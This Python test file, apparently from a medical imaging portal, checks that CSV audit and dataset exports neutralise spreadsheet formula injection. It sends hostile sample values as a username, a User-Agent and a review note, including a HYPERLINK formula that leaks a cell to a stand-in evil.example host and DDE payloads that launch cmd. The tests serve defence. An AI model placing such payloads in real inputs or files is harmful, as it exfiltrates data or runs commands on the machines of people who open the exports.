"""Finding 4 (#17): no cell of a CSV the portal writes can run as a spreadsheet formula (OWASP).

Attacker-controlled text reaches the audit export without logging in (a username tried at the token
endpoint, any User-Agent) and through a radiologist's review note. Each such cell must come out inert.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from audit.models import AuditEvent
from portal.spreadsheets import safe_cell
from tests.diagnosis.factories import completed_study
from tests.fixtures.api import token_client

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _export_rows(client: Any) -> list[list[str]]:
    response = client.get("/audit/?format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_hostile_username_user_agent_and_note_are_inert_in_the_audit_export(
    client: Any, admin_user: Any, alice: Any, carol: Any
) -> None:
    # 1. Unauthenticated: a formula as username, another as User-Agent.
    api = token_client(None)
    refused = api.post("/api/v1/auth/token/", {"username": HYPERLINK, "password": "x"}, HTTP_USER_AGENT=DDE)
    assert refused.status_code == 400
    # 2. A radiologist's review note starting with @.
    study = completed_study(created_by=alice)
    signed = token_client(carol).post(
        f"/api/v1/studies/{study.id}/review/", {"decision": "agree", "note": NOTE}, format="json"
    )
    assert signed.status_code == 201, signed.content
    assert (
        AuditEvent.objects.filter(user_agent=DDE).exists() and AuditEvent.objects.filter(reason=NOTE).exists()
    )
    client.force_login(admin_user)
    rows = _export_rows(client)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    # The text is kept (prefixed with a quote), so the export still says what was sent.
    assert "'" + HYPERLINK[:64] in cells and "'" + DDE in cells and "'" + NOTE in cells


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("", ""),
        (-0.5, -0.5),  # numbers stay numbers
        (None, None),
    ],
)
def test_safe_cell(raw: Any, expected: Any) -> None:
    assert safe_cell(raw) == expected


def test_dict_writer_used_by_the_dataset_export_defuses_values_too() -> None:
    from portal.spreadsheets import SafeDictWriter

    handle = io.StringIO()
    writer = SafeDictWriter(handle, fieldnames=["model_version", "ai_probability"])
    writer.writeheader()
    writer.writerows([{"model_version": "=evil()", "ai_probability": 0.25}])
    assert handle.getvalue().splitlines() == ["model_version,ai_probability", "'=evil(),0.25"]
